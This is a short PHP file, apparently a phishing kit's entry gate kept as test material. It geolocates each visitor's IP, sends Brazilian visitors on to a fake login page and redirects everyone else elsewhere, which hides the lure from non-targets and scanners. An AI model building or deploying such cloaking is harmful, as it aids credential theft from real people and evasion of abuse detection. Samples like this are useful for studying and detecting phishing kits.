<?php
// a kit's entry page: the targeted country goes on to the fake login, everyone else is
// sent away by a script the gate writes (written for the tests, never run)
include 'conf.php';
$addr = $_SERVER['REMOTE_ADDR'];
$answer = json_decode(file_get_contents('http://ip-api.com/json/' . $addr));
$land = $answer->countryCode;
if ($land === 'BR') {
    echo "<script>window.location.href='acesso/index.php';</script>";
} else {
    echo "<script>window.location.href='$out';</script>";
}
